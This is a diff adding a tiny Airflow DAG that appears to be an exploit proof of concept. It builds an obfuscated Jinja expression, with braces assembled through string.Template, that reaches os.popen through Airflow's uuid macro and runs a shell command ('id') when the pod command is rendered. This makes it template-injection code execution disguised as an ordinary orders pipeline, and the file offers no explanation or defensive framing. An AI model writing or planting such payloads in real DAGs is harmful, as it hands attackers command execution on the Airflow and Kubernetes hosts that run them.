@@ -1,0 +1,10 @@
+from datetime import datetime
+
+from airflow import DAG
+from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator
+from string import Template
+
+command = Template("$open$open macros.uuid.os.popen('id').read() }}").substitute(open="{")
+where = "orders"
+with DAG("orders.x", start_date=datetime(2024, 1, 1), schedule=None):
+    KubernetesPodOperator(task_id="a", namespace=where, pod_template_file="/usr/local/airflow/dags/templates/orders/orders-api/job.yaml", cmds=[command])
